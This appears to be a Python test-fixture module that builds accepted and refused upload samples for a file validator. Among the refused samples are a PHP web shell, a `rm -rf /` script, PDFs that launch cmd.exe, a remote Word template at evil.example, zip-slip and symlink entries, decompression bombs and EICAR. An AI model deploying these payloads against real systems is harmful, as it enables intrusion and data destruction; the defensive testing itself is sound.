"""Files of every kind that is taken, and of those that are not: made here, so that none lies about in the repository.

`TAKEN` gives by name the content and the kind that it is; `REFUSED` the content and a part of the sentence.
"""

import base64
import io
import struct
import zipfile
import zlib
from functools import cache

from PIL import Image, PngImagePlugin

SENTENCES = {
    "archive": "This is an archive",
    "damaged": "cannot be read",
    "empty": "The file is empty",
    "holds": "other files inside",
    "kind": "This kind of file is not taken",
    "film": "This kind of film or sound",
    "macros": "holds macros",
    "markup": "web page, or a drawing made of code",
    "office": "only Word documents",
    "old office": "of a kind that can hold programs",
    "outside": "fetches its template",
    "packed": "far larger inside",
    "pdf acts": "This PDF holds a program",
    "pdf holds": "This PDF has other files inside",
    "picture": "This kind of picture",
    "pixels": "more than 40 million pixels",
    "program": "This is a program",
    "test virus": "virus scanners are tried out",
    "two": "two things at once",
    "within": "holds other files",
}
EICAR = base64.b64decode("WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=")


# --- Pictures --------------------------------------------------------------------------------------------------


@cache
def picture(kind="PNG", size=(64, 48), mode="RGB", **more):
    out = io.BytesIO()
    Image.new(mode, size, 90 if mode == "L" else "teal").save(out, kind, **more)
    return out.getvalue()


def with_place():
    exif = Image.Exif()
    exif[0x010E] = "Taken at home"
    return picture("JPEG", exif=exif.tobytes())


def png_chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width, height, rows=b""):
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", head)
        + png_chunk(b"IDAT", zlib.compress(rows))
        + png_chunk(b"IEND", b"")
    )


def png_bomb(side):
    return png_of(side, side, bytes((side // 8 + 1) * side))


def png_with_text():
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "<?php system($_GET['c']); ?>")
    return picture("PNG", pnginfo=text)


def jpeg_that_claims(width, height):
    made = bytearray(picture("JPEG"))
    at = made.index(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(made)


def webp_that_claims(width, height):
    head = b"VP8X" + struct.pack("<I", 10) + b"\x10\0\0\0" + (width - 1).to_bytes(3, "little")
    body = b"WEBP" + head + (height - 1).to_bytes(3, "little") + picture("WEBP", lossless=True)[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


# --- Boxes -----------------------------------------------------------------------------------------------------


def box(kind, content=b""):
    return struct.pack(">I", 8 + len(content)) + kind + content


def heic(width=4032, height=3024):
    size = box(b"ispe", struct.pack(">III", 0, width, height))
    meta = box(b"meta", bytes(4) + box(b"hdlr", bytes(24)) + box(b"iprp", box(b"ipco", size)))
    return box(b"ftyp", b"heic" + bytes(4) + b"mif1heic") + meta + box(b"mdat", bytes(200))


def film(brand=b"isom", content=b"film"):
    return box(b"ftyp", brand + bytes(4) + brand) + box(b"moov", box(b"mvhd", bytes(100))) + box(b"mdat", content * 50)


# --- PDFs ------------------------------------------------------------------------------------------------------


def pdf(more=b"", in_stream=b"BT (Hello) Tj ET", pages=1):
    objects = [b"<< /Type /Catalog /Pages 2 0 R %s >>" % more]
    kids = b" ".join(b"%d 0 R" % (4 + at) for at in range(pages))
    objects.append(b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, kids))
    objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(in_stream), in_stream))
    objects += [b"<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>"] * pages
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def pdf_with_packed(objects):
    packed = zlib.compress(objects)
    stream = (
        b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n"
    )
    return pdf().replace(b"trailer", stream % (len(packed), packed) + b"trailer")


# --- Archives and Word documents ---------------------------------------------------------------------------------

TYPES = (
    b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def zipped(entries, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as packed:
        for name, content in entries.items():
            packed.writestr(name, content)
    return out.getvalue()


def docx(more=None, types=TYPES, **kwargs):
    parts = {"[Content_Types].xml": types, "word/document.xml": b"<w:document>Dear all</w:document>"}
    return zipped(parts | (more or {}), **kwargs)


def office(folder, kind):
    types = TYPES.replace(b"wordprocessingml.document.main", kind)
    return zipped({"[Content_Types].xml": types, f"{folder}/main.xml": b"<main/>"})


def docx_with_link():
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as packed:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        packed.writestr(link, "/etc/passwd")
    return out.getvalue()


def docx_under_password():
    made = bytearray(docx())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = made.index(sign)
        made[start + at] |= 1
    return bytes(made)


def docx_overlapping():
    """The last entry says that it begins where the first one does."""
    made = bytearray(docx({"word/a.xml": b"<a/>" * 50, "word/b.xml": b"<b/>" * 50}))
    last = made.rindex(b"PK\x01\x02")
    first = made.index(b"PK\x01\x02")
    made[last + 42 : last + 46] = made[first + 42 : first + 46]
    return bytes(made)


def docx_twice_the_same():
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as packed:
        packed.writestr("WORD/document.xml", b"<other/>")
    return out.getvalue()


def docx_that_lies_about_size():
    made = bytearray(docx({"word/big.xml": bytes(5_000_000)}))
    at = made.rindex(b"PK\x01\x02")
    made[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(made)


def bomb_that_lies_well(compression, size=30_000_000):
    """Its last entry says that it holds 1,000 bytes, with the sum of those, and goes on for as long as you like."""
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as packed:
        entry = zipfile.ZipInfo("word/big.xml")
        entry.compress_type = compression
        with packed.open(entry, "w") as part:
            for _ in range(size // 1_000_000):
                part.write(bytes(1_000_000))
    made = bytearray(out.getvalue())
    at = made.rindex(b"PK\x01\x02")
    made[at + 16 : at + 20] = struct.pack("<I", zlib.crc32(bytes(1_000)))
    made[at + 24 : at + 28] = struct.pack("<I", 1_000)
    return bytes(made)


@cache
def many_entries(number=100_000):
    """Only the list of contents, which is what one would have to read."""
    entry = b"PK\x01\x02" + bytes(24) + struct.pack("<H", 1) + bytes(16) + b"a"
    end = b"PK\x05\x06" + bytes(4) + struct.pack("<HHIIH", number & 0xFFFF, number & 0xFFFF, len(entry) * number, 4, 0)
    return b"PK\x03\x04" + entry * number + end


RELS = b'<Relationship Type=".../attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;&b;">]><a>&d;</a>'
ZIP = zipped({"a.txt": b"Hello"})

# --- Text ------------------------------------------------------------------------------------------------------

MAIL = (
    b"From: Max <max@stranger.example>\r\nTo: ida@home.example\r\nDate: Wed, 4 Mar 2026 14:30:00 +0000\r\n"
    b"Subject: hello\r\nContent-Type: text/html;\r\n charset=utf-8\r\n\r\n"
    b"<html><body>Where do you live?</body></html>\r\n"
)
WEB_ARCHIVE = (
    b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://evil.example/\r\nSubject: x\r\n"
    b"Date: Wed, 4 Mar 2026 14:30:00 +0000\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\n<html></html>\r\n--b--\r\n'
)
SCRIPT = b"<script>document.title = 'run'</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'


def tar():
    return b"a.txt".ljust(257, b"\0") + b"ustar\0" + bytes(800)


TAKEN = {
    "photo.jpg": (picture("JPEG"), "jpg"),
    "with-place.jpeg": (with_place(), "jpg"),
    "slow.jpg": (picture("JPEG", progressive=True), "jpg"),
    "screen.png": (picture("PNG"), "png"),
    "grey.png": (picture("PNG", mode="L"), "png"),
    "clear.png": (picture("PNG", mode="RGBA"), "png"),
    "largest.png": (png_of(6_300, 6_300, bytes(789 * 6_300)), "png"),
    "photo.webp": (picture("WEBP"), "webp"),
    "phone.heic": (heic(), "heic"),
    "letter.pdf": (pdf(), "pdf"),
    "ten-thousand-pages.pdf": (pdf(pages=10_000), "pdf"),
    "chat.txt": ("Ida wrote: nobody is to sit with her. 😢\r\n".encode(), "txt"),
    "wide.txt": ("Ida schrieb: ‘nobody’".encode("utf-16"), "txt"),
    "old.txt": (b"It cost \xa35, she wrote \x96 and no more.", "txt"),
    "mail.eml": (MAIL, "eml"),
    "box.eml": (b"From max@stranger.example Wed Mar  4 14:30:00 2026\n" + MAIL, "eml"),
    "letter.docx": (docx(), "docx"),
    "film.mp4": (film(), "mp4"),
    "film-of-phone.mp4": (film(b"mp42"), "mp4"),
    "voice.m4a": (film(b"M4A "), "m4a"),
    "evil.png": (pdf(b"/Lang (en)"), "pdf"),
    "photo.exe": (picture("PNG", size=(65, 48)), "png"),
    "readme.html": (b"Only words, whatever the name says.", "txt"),
    "noname": (picture("JPEG", size=(65, 48)), "jpg"),
}

REFUSED = {
    "dance.gif": (picture("GIF"), "picture"),
    "gif-and-script.gif": (b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//", "picture"),
    "gif-bomb.gif": (b"GIF89a\xff\xff\xff\xff\0\0\0", "picture"),
    "scan.tiff": (picture("TIFF"), "picture"),
    "tiff-bomb.tif": (b"II*\0\x08\0\0\0" + bytes(40), "picture"),
    "paint.bmp": (picture("BMP"), "picture"),
    "new.avif": (box(b"ftyp", b"avif" + bytes(4) + b"avif") + box(b"meta", bytes(40)), "picture"),
    "png-bomb.png": (png_bomb(12_000), "pixels"),
    "png-too-wide.png": (png_of(40_000_001, 1), "pixels"),
    "jpeg-bomb.jpg": (jpeg_that_claims(60_000, 60_000), "pixels"),
    "webp-bomb.webp": (webp_that_claims(16_383, 16_383), "pixels"),
    "heic-bomb.heic": (heic(20_000, 20_000), "pixels"),
    "png-and-php.png": (picture("PNG") + b"<?php system('id');", "two"),
    "php-in-comment.png": (png_with_text(), "two"),
    "jpeg-and-zip.jpg": (picture("JPEG") + ZIP, "two"),
    "jpeg-and-html.jpg": (picture("JPEG") + SCRIPT, "two"),
    "pdf-and-html.pdf": (pdf().replace(b"trailer", b"<html>" + SCRIPT + b"\ntrailer"), "two"),
    "pdf-and-zip.pdf": (pdf() + ZIP, "two"),
    "half.png": (picture("PNG", size=(300, 300))[:-60], "damaged"),
    "half.jpg": (picture("JPEG", size=(300, 300))[:400], "damaged"),
    "only-a-head.jpg": (b"\xff\xd8\xff\xe0" + bytes(100), "damaged"),
    "half.webp": (picture("WEBP", size=(300, 300))[:40], "damaged"),
    "half.heic": (heic()[:-20], "damaged"),
    "no-size.heic": (box(b"ftyp", b"heic" + bytes(8)) + box(b"meta", bytes(4)), "damaged"),
    "half.mp4": (film()[:-20], "damaged"),
    "only-sound-missing.mp4": (box(b"ftyp", b"isom" + bytes(8)), "damaged"),
    "boxes-without-end.mp4": (box(b"ftyp", b"isom" + bytes(8)) + box(b"free") * 10_001, "damaged"),
    "apple.mov": (film(b"qt  "), "film"),
    "old-phone.3gp": (film(b"3gp5"), "film"),
    "web.webm": (b"\x1a\x45\xdf\xa3" + bytes(100), "kind"),
    "song.mp3": (b"ID3\x04" + bytes(100), "kind"),
    "sound.wav": (b"RIFF\x24\0\0\0WAVEfmt " + bytes(30), "kind"),
    "script.pdf": (pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "pdf acts"),
    "script-hidden.pdf": (pdf(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"), "pdf acts"),
    "script-packed.pdf": (pdf_with_packed(b"8 0 << /S /JavaScript /JS (x) >>"), "pdf acts"),
    "starts.pdf": (pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf acts"),
    "holds-files.pdf": (pdf(b"/Names << /EmbeddedFiles 9 0 R >>"), "pdf holds"),
    "packed-bomb.pdf": (pdf_with_packed(bytes(60 * 2**20)), "damaged"),
    "half.pdf": (pdf()[:80], "damaged"),
    "page.html": (b"<!doctype html><title>x</title>" + SCRIPT, "markup"),
    "page-late.htm": (b"\xef\xbb\xbf \n\n<!-- x --><p>" + SCRIPT, "markup"),
    "page-named.png": (b"<html><body>" + SCRIPT, "markup"),
    "words-then-page.txt": (b"Hello, look at this:\n" + SCRIPT, "markup"),
    "wide-page.txt": ("<html>x</html>".encode("utf-16"), "markup"),
    "page.xhtml": (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>", "markup"),
    "page.mhtml": (WEB_ARCHIVE, "markup"),
    "draw.svg": (SVG % SCRIPT, "markup"),
    "draw-foreign.svg": (SVG % b"<foreignObject><iframe src='x'/></foreignObject>", "markup"),
    "entities.xml": (DTD, "markup"),
    "shell.php": (b"<?php system($_GET['c']);", "markup"),
    "eicar.com": (EICAR, "test virus"),
    "eicar-within.txt": (b"Look: " + EICAR + b" (they said)", "test virus"),
    "eicar-late.png": (picture("PNG") + bytes(2**20 - 30) + EICAR, "test virus"),
    "eicar.zip": (zipped({"eicar.com": EICAR}), "archive"),
    "eicar-twice.zip": (zipped({"a.zip": zipped({"eicar.com": EICAR})}), "archive"),
    "eicar.docx": (docx({"word/media/a.txt": EICAR}), "test virus"),
    "plain.zip": (ZIP, "archive"),
    "empty.zip": (b"PK\x05\x06" + bytes(18), "two"),
    "bomb-flat.zip": (zipped({"a": bytes(30_000_000)}), "archive"),
    "bomb-flat.docx": (docx({"word/a.xml": bytes(110_000_000)}), "packed"),
    "bomb-nested.docx": (docx({"word/a.zip": zipped({"a": bytes(10_000_000)})}), "within"),
    "bomb-overlapping.docx": (docx_overlapping(), "damaged"),
    "bomb-that-lies.docx": (docx_that_lies_about_size(), "damaged"),
    "bomb-that-lies-well.docx": (bomb_that_lies_well(zipfile.ZIP_DEFLATED), "damaged"),
    "bomb-of-bzip2.docx": (bomb_that_lies_well(zipfile.ZIP_BZIP2), "archive"),
    "bomb-of-lzma.docx": (bomb_that_lies_well(zipfile.ZIP_LZMA), "archive"),
    "slip.docx": (docx({"../../evil.txt": b"x"}), "archive"),
    "slip-of-windows.docx": (docx({"..\\evil.txt": b"x"}), "archive"),
    "from-the-root.docx": (docx({"/etc/cron.d/evil": b"x"}), "archive"),
    "link.docx": (docx_with_link(), "archive"),
    "hundred-thousand.zip": (many_entries(), "archive"),
    "thousand-and-one.docx": (docx({f"word/{at}.xml": b"<a/>" for at in range(1_000)}), "archive"),
    "twice-the-same.docx": (docx_twice_the_same(), "damaged"),
    "password.docx": (docx_under_password(), "archive"),
    "entities.docx": (docx({"word/a.xml": DTD}), "damaged"),
    "template.docx": (docx({"word/_rels/settings.xml.rels": RELS}), "outside"),
    "macros.docx": (docx({"word/vbaProject.bin": b"x"}), "macros"),
    "macros.docm": (docx(types=TYPES.replace(b"officedocument.word", b"macroEnabled.word")), "macros"),
    "ole-inside.docx": (docx({"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0" + bytes(50)}), "within"),
    "program-inside.docx": (docx({"word/media/a.png": b"MZ" + bytes(50)}), "within"),
    "half.docx": (docx()[:200], "damaged"),
    "sheet.xlsx": (office("xl", b"spreadsheetml.sheet.main"), "office"),
    "slides.pptx": (office("ppt", b"presentationml.presentation.main"), "office"),
    "open.odt": (zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}), "archive"),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old office"),
    "rich.rtf": (b"{\\rtf1 {\\object\\objdata 0105}}", "old office"),
    "setup.exe": (b"MZ" + bytes(200), "program"),
    "setup-named.jpg": (b"MZ" + bytes(201), "program"),
    "linux": (b"\x7fELF" + bytes(200), "program"),
    "apple": (b"\xcf\xfa\xed\xfe" + bytes(200), "program"),
    "java.class": (b"\xca\xfe\xba\xbe" + bytes(200), "program"),
    "script.sh": (b"#!/bin/sh\nrm -rf /\n", "program"),
    "short.lnk": (b"L\0\0\0\x01\x14\x02\0" + bytes(200), "program"),
    "packed.7z": (b"7z\xbc\xaf\x27\x1c" + bytes(200), "archive"),
    "packed.rar": (b"Rar!\x1a\x07\x01\0" + bytes(200), "archive"),
    "packed.gz": (b"\x1f\x8b\x08" + bytes(200), "archive"),
    "packed.tar": (tar(), "archive"),
    "nothing.txt": (b"", "empty"),
    "noise.bin": (bytes(range(256)) * 8, "kind"),
    "null.txt": (b"Hello\0there", "kind"),
    "data.sqlite": (b"SQLite format 3\0" + bytes(200), "kind"),
}
